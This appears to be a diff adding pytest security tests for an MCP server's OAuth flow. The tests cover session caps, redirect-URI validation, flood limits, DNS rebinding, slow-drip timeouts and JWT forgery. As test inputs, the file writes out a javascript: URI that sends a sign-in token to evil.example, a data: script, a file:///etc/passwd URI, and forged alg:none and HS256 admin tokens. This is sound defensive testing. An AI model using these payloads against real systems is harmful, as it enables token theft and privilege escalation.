@@ -1,0 +1,248 @@
+"""Hostile-client probes of /mcp and its authorization server (review of issue 19): each test
+failed before its fix."""
+
+from __future__ import annotations
+
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import httpx
+import pytest
+
+from chatbot.oauth.clients import check_redirect_uri
+from chatbot.settings import ChatSettings
+from controlplane.settings import Settings
+from tests.live import free_port, serve
+from tests.mcp_harness import McpStack, served_chat
+from tests.mcp_oauth import Authorization
+
+pytestmark = pytest.mark.integration
+
+INIT = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
+        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
+                   "clientInfo": {"name": "probe", "version": "1"}}}  # fmt: skip
+ACCEPT = {"Accept": "application/json, text/event-stream"}
+
+
+@pytest.fixture
+def stack(settings: Settings, live_api: str) -> Iterator[McpStack]:
+    with served_chat(settings, live_api, mcp_sessions_per_user=5) as served:
+        yield served
+
+
+def _open(stack: McpStack, token: str) -> httpx.Response:
+    return httpx.post(stack.mcp_url, json=INIT, timeout=30,
+                      headers={**ACCEPT, "Authorization": f"Bearer {token}"})  # fmt: skip
+
+
+def test_one_user_cannot_hold_every_session(stack: McpStack) -> None:
+    # The SDK's only cap is 10 000 sessions for everyone, each kept 30 minutes when idle:
+    # one tenant opening them all locked every other user out of /mcp.
+    alice, bob = stack.token("alice", "tenant", "acme"), stack.token("bob", "tenant", "globex")
+    opened = [_open(stack, alice) for _ in range(5)]
+    assert all(r.status_code == 200 for r in opened), [r.text for r in opened]
+    refused = _open(stack, alice)
+    assert refused.status_code == 429 and "sessions" in refused.json()["detail"]
+    assert _open(stack, bob).status_code == 200
+    # A session the user ends frees its place.
+    ended = httpx.delete(stack.mcp_url, timeout=30, headers={
+        **ACCEPT, "Authorization": f"Bearer {alice}",
+        "mcp-session-id": opened[0].headers["mcp-session-id"]})  # fmt: skip
+    assert ended.status_code == 200
+    assert _open(stack, alice).status_code == 200
+
+
+def test_a_client_metadata_document_cannot_name_a_script_as_its_redirect_uri(
+    chat_settings: ChatSettings, admin_api: httpx.Client
+) -> None:
+    # The consent page sends the browser to the answer's redirect (location.href = ...): a
+    # document naming javascript: or data: got the chat origin to run the client's script
+    # (with the sign-in token in reach) where only CSP stood in the way.
+    from tests.agent.test_mcp_oauth import _metadata_document, _serve_chat
+
+    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
+    port = free_port()
+    client_id = f"http://127.0.0.1:{port}/client.json"
+    for bad in ("javascript:fetch('//evil.example/'+localStorage.getItem('aipress.token'))//",
+                "data:text/html,<script>alert(1)</script>", "http://evil.example/callback",
+                "https://app.example/cb#frag", "file:///etc/passwd"):  # fmt: skip
+        doc = {"client_id": client_id, "client_name": "Desk Agent", "redirect_uris": [bad]}
+        with serve(_metadata_document(doc), port):
+            for chat in _serve_chat(chat_settings, mcp_allow_loopback_client_metadata=True):
+                with chat.http() as http:
+                    run = Authorization.fresh()
+                    started = http.get("/oauth/authorize", params=run.params(
+                        chat.resource, "sites:read", client_id, bad))  # fmt: skip
+                    assert started.status_code == 400, (bad, started.headers)
+                    assert "redirect" in started.json()["detail"], started.text
+    # What a native or web client registers still works.
+    for good in ("https://app.example/cb", "http://127.0.0.1:9/cb", "http://localhost/cb",
+                 "http://[::1]:8/cb", "com.example.desk:/callback"):  # fmt: skip
+        assert check_redirect_uri(good) is None, good
+
+
+def test_strangers_cannot_fill_the_pending_authorizations(
+    chat_settings: ChatSettings, admin_api: httpx.Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # /oauth/authorize needs no sign-in, and each request was held server-side (10 000 at
+    # most, for 10 minutes): anyone flooding it refused every user's authorization with
+    # temporarily_unavailable. Here the cap is 30 so the flood is short.
+    from chatbot.oauth import grants
+    from tests.agent.test_mcp_oauth import _serve_chat
+    from tests.mcp_oauth import consent, query_of, sign_in
+
+    monkeypatch.setattr(grants, "MAX_HELD", 30)
+    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
+    for chat in _serve_chat(chat_settings):
+        with chat.http() as http:
+            for _ in range(40):
+                flood = Authorization.fresh()
+                http.get("/oauth/authorize", params=flood.params(chat.resource, "sites:read"))
+            run = Authorization.fresh()
+            started = http.get("/oauth/authorize", params=run.params(chat.resource, "sites:read"))
+            location = started.headers["location"]
+            assert location.startswith("/signin?oauth="), location
+            back = query_of(consent(http, location, sign_in(http, "alice", chat.key)))
+            assert "code" in back, back
+
+
+def test_a_signed_in_user_cannot_fill_the_codes(
+    chat_settings: ChatSettings, admin_api: httpx.Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Codes are held (single use); one user consenting in a loop filled the store every
+    # user's codes share. Each user now holds a few unredeemed codes at most.
+    from chatbot.oauth import grants
+    from tests.agent.test_mcp_oauth import Chat, _serve_chat
+    from tests.mcp_oauth import consent, query_of, sign_in
+
+    monkeypatch.setattr(grants, "MAX_HELD", 5)
+    monkeypatch.setattr(grants, "MAX_HELD_PER_OWNER", 3)
+    for uid, tenant in (("alice", "acme"), ("bob", "globex")):
+        user = {"role": "tenant", "tenants": [tenant]}
+        assert admin_api.put(f"/v1/users/{uid}", json=user).is_success
+    for chat in _serve_chat(chat_settings):
+        with chat.http() as http:
+
+            def code_for(user: str, chat: Chat = chat) -> dict[str, str]:
+                run = Authorization.fresh()
+                started = http.get(
+                    "/oauth/authorize", params=run.params(chat.resource, "sites:read")
+                )
+                token = sign_in(http, user, chat.key)
+                return query_of(consent(http, started.headers["location"], token))
+
+            answers = [code_for("alice") for _ in range(8)]
+            assert all("code" in a for a in answers[:3]), answers
+            assert {a.get("error") for a in answers[3:]} == {"temporarily_unavailable"}
+            assert "code" in code_for("bob")
+
+
+def _listener() -> tuple[socket.socket, list[str]]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.2)
+    return server, []
+
+
+def test_a_rebinding_client_id_host_never_reaches_loopback(
+    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The host was resolved to check it is public, then resolved again by httpx to fetch:
+    # a DNS answer that changes in between sent the fetch to 127.0.0.1 (the control plane,
+    # the chat service) or to a metadata address.
+    from chatbot.oauth import clients
+
+    server, _ = _listener()
+    port = server.getsockname()[1]
+    real = socket.getaddrinfo
+    answers = iter(["93.184.216.34"])
+
+    def rebinding(host: Any, *args: Any, **kwargs: Any) -> Any:
+        if host == "rebind.example":
+            address = next(answers, "127.0.0.1")
+            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]
+        return real(host, *args, **kwargs)
+
+    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
+    monkeypatch.setattr(clients, "FETCH_TIMEOUT_SECONDS", 1.0)
+    directory = clients.ClientDirectory(chat_settings)
+    with pytest.raises(clients.UnknownClient):
+        directory.resolve(f"https://rebind.example:{port}/client.json")
+    try:
+        server.accept()
+        reached = True
+    except TimeoutError:
+        reached = False
+    server.close()
+    assert not reached, "the client metadata fetch connected to 127.0.0.1"
+
+
+def test_a_dripping_client_metadata_server_holds_no_thread_for_long(
+    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Each /oauth/authorize with a CIMD client_id fetches in the shared thread pool; the
+    # timeout was per read, so a server sending a byte a second held a thread for hours.
+    from chatbot.oauth import clients
+
+    server, _ = _listener()
+    port = server.getsockname()[1]
+    stop = threading.Event()
+
+    def drip() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            conn.recv(4096)
+            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                         b"Content-Length: 60000\r\n\r\n")  # fmt: skip
+            while not stop.is_set():
+                try:
+                    conn.sendall(b" ")
+                except OSError:
+                    break
+                time.sleep(0.3)
+            conn.close()
+
+    thread = threading.Thread(target=drip, daemon=True)
+    thread.start()
+    monkeypatch.setattr(clients, "FETCH_TIMEOUT_SECONDS", 1.0)
+    settings = chat_settings.model_copy(update={"mcp_allow_loopback_client_metadata": True})
+    started = time.monotonic()
+    try:
+        with pytest.raises(clients.UnknownClient):
+            clients.ClientDirectory(settings).resolve(f"http://127.0.0.1:{port}/client.json")
+    finally:
+        stop.set()
+        thread.join(5)
+        server.close()
+    assert time.monotonic() - started < 4
+
+
+def test_an_mcp_token_is_refused_everywhere_else_and_forgeries_at_mcp(
+    stack: McpStack, live_api: str
+) -> None:
+    # Same signing key as the control plane's tokens: only the audience tells them apart.
+    import base64
+    import json
+
+    import jwt
+
+    mcp = stack.token("alice", "tenant", "acme")
+    bearer = {"Authorization": f"Bearer {mcp}"}
+    assert httpx.get(f"{live_api}/v1/tenants/acme/sites", headers=bearer).status_code == 401
+    assert httpx.get(f"{stack.url}/api/v1/tenants/acme/sites", headers=bearer).status_code == 401
+    claims = jwt.decode(mcp, options={"verify_signature": False})
+    claims.update(role="admin")
+    head = base64.urlsafe_b64encode(json.dumps({"alg": "none", "typ": "JWT"}).encode())
+    body = base64.urlsafe_b64encode(json.dumps(claims).encode())
+    unsigned = head.rstrip(b"=").decode() + "." + body.rstrip(b"=").decode() + "."
+    hs256 = jwt.encode(claims, "aipress", algorithm="HS256")
+    for forged in (unsigned, hs256, mcp[:-4] + "AAAA"):
+        refused = stack.post(forged, {"jsonrpc": "2.0", "id": 1, "method": "tools/list"})
+        assert refused.status_code == 401, refused.text
